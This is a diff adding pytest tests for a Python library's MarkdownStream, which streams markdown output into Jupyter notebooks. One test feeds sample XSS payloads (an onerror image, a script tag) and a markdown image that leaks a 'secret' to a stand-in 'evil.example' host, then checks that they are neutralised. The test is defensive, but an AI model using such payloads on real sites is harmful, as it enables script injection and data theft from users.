@@ -1,0 +1,196 @@
+"""MarkdownStream as a frontend sees it: a real kernel, real IOPub messages."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import textwrap
+
+from chatnb.display import MarkdownStream, TextSink
+from chatnb.markdown import render
+from chatnb.mock.replies import markdown_sample
+
+from .kernel import Kernel
+from .test_markdown import unsafe_tokens
+
+STREAM_SAMPLE = """
+from chatnb import MarkdownStream
+from chatnb.mock.replies import markdown_sample
+
+text = markdown_sample({length}, 3)
+tokens = [text[i:i + 4] for i in range(0, len(text), 4)]
+now = [0.0]
+step = {seconds_per_token}
+stream = MarkdownStream(**({{}} if step is None else {{"clock": lambda: now[0]}}))
+for token in tokens:
+    now[0] += step or 0
+    stream.feed(token)
+stream.close()
+"""
+
+
+def test_a_streamed_answer_ends_as_exactly_the_text(kernel: Kernel) -> None:
+    # Full speed, real clock: however many renders the machine's speed allows.
+    run = kernel.run(STREAM_SAMPLE.format(length=20_000, seconds_per_token=None)).ok()
+    text = markdown_sample(20_000, 3)
+    shown = run.frontend.markdown()
+    assert "".join(shown) == text
+    assert "".join(render(part) for part in shown) == render(text)
+    assert run.payload_bytes() <= 3 * len(text.encode())
+
+
+def test_finished_outputs_are_never_sent_again(kernel: Kernel) -> None:
+    run = kernel.run(STREAM_SAMPLE.format(length=8_000, seconds_per_token=0.002)).ok()
+    opened: list[str] = []
+    for msg in run.display_messages():
+        display_id = msg["content"]["transient"]["display_id"]
+        if msg["msg_type"] == "display_data":
+            opened.append(display_id)
+        else:
+            # Only the newest output (the open tail) is ever updated.
+            assert display_id == opened[-1]
+    assert len(opened) > 5
+
+
+def test_at_100_tokens_a_second_it_stays_under_50_messages_a_second(kernel: Kernel) -> None:
+    # A simulated clock: 100 tokens per second of stream time, however fast the machine is.
+    run = kernel.run(STREAM_SAMPLE.format(length=20_000, seconds_per_token=0.01)).ok()
+    text = markdown_sample(20_000, 3)
+    seconds = len(range(0, len(text), 4)) * 0.01
+    messages = len(run.display_messages())
+    assert messages <= 50 * seconds
+    assert run.payload_bytes() <= 3 * len(text.encode())
+    shown = run.frontend.markdown()
+    assert "".join(shown) == text
+    assert len(shown) > 20  # finished blocks live in their own outputs
+
+
+def test_untrusted_html_and_remote_images_are_shown_safely(kernel: Kernel) -> None:
+    run = kernel.run(
+        textwrap.dedent(
+            """
+            from chatnb import MarkdownStream
+            with MarkdownStream() as stream:
+                for piece in ["Hi <img src=x onerror=alert(1)>\\n\\n", "![leak](https://evil.",
+                              "example/?q=secret)\\n\\n<script>alert(1)</script>\\n"]:
+                    stream.feed(piece)
+            """
+        )
+    ).ok()
+    shown = run.frontend.markdown()
+    assert shown and all(unsafe_tokens(markdown) == [] for markdown in shown)
+    # ...and no preview along the way carried them either.
+    for msg in run.display_messages():
+        assert unsafe_tokens(msg["content"]["data"]["text/markdown"]) == []
+
+
+def test_an_exception_inside_the_block_still_renders_the_final_state(kernel: Kernel) -> None:
+    run = kernel.run(
+        textwrap.dedent(
+            """
+            from chatnb import MarkdownStream
+            with MarkdownStream() as stream:
+                stream.feed("partial **answ")
+                raise RuntimeError("boom")
+            """
+        )
+    )
+    assert run.reply["status"] == "error"
+    assert run.frontend.markdown() == ["partial **answ"]  # the final output is never "closed"
+
+
+def test_a_widget_output_captures_the_stream(kernel: Kernel) -> None:
+    run = kernel.run(
+        textwrap.dedent(
+            """
+            import ipywidgets
+            from chatnb import MarkdownStream
+            out = ipywidgets.Output()
+            with MarkdownStream(output=out) as stream:
+                stream.feed("# Title\\n\\nbody\\n")
+            """
+        )
+    ).ok()
+    # The Output widget claims the messages by setting its msg_id around each of them.
+    captures = [
+        m["content"]["data"]["state"]["msg_id"]
+        for m in run.of_type("comm_msg")
+        if "msg_id" in m["content"]["data"].get("state", {})
+    ]
+    assert captures and captures[0] != "" and captures[-1] == ""
+    assert "".join(run.frontend.markdown()) == "# Title\n\nbody\n"
+
+
+def test_outside_a_kernel_the_text_streams_to_stdout() -> None:
+    code = textwrap.dedent(
+        """
+        from chatnb import MarkdownStream
+        stream = MarkdownStream()
+        for piece in ["# Title", "\\n\\nSome **bold** text"]:
+            stream.feed(piece)
+        stream.close()
+        print(type(stream.sink).__name__)
+        """
+    )
+    result = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, check=True
+    )
+    assert result.stdout == "# Title\n\nSome **bold** text\nTextSink\n"
+
+
+class RecordingSink:
+    def __init__(self) -> None:
+        self.outputs: list[str] = []
+        self.calls: list[tuple[str, int]] = []
+
+    def show(self, markdown: str) -> int:
+        self.outputs.append(markdown)
+        self.calls.append(("show", len(self.outputs) - 1))
+        return len(self.outputs) - 1
+
+    def replace(self, handle: int, markdown: str) -> None:
+        self.outputs[handle] = markdown
+        self.calls.append(("replace", handle))
+
+    def note(self, text: str) -> None:
+        self.outputs.append(text)
+
+
+def test_fragments_arriving_before_the_next_render_are_merged() -> None:
+    now = [0.0]
+    sink = RecordingSink()
+    stream = MarkdownStream(sink=sink, clock=lambda: now[0])
+    stream.feed("a")  # first render at once
+    for piece in "bcdefgh":  # all within one render interval: no render
+        now[0] += 0.001
+        stream.feed(piece)
+    assert sink.outputs == ["a"]
+    now[0] += 0.05
+    stream.feed("i")
+    assert sink.outputs == ["abcdefghi"]
+    assert sink.calls == [("show", 0), ("replace", 0)]
+    stream.close()
+    stream.close()  # closing twice is harmless
+    assert sink.outputs == ["abcdefghi"]
+
+
+def test_a_huge_open_block_is_throttled_by_bytes_not_only_by_time() -> None:
+    now = [0.0]
+    sink = RecordingSink()
+    stream = MarkdownStream(sink=sink, clock=lambda: now[0])
+    code = "```\n" + "".join(f"line {i} of a long code block\n" for i in range(600)) + "```\n"
+    for i in range(0, len(code), 4):
+        now[0] += 0.01  # 100 tokens/s: 20 renders/s would resend the growing block each time
+        stream.feed(code[i : i + 4])
+    stream.close()
+    assert sink.outputs == [code]
+    assert stream.payload_bytes <= 3 * len(code)
+
+
+def test_text_sink_closes_with_a_newline_only_when_needed(capsys: object) -> None:
+    import io
+
+    buffer = io.StringIO()
+    with MarkdownStream(sink=TextSink(buffer)) as stream:
+        stream.feed("no newline")
+    assert buffer.getvalue() == "no newline\n"
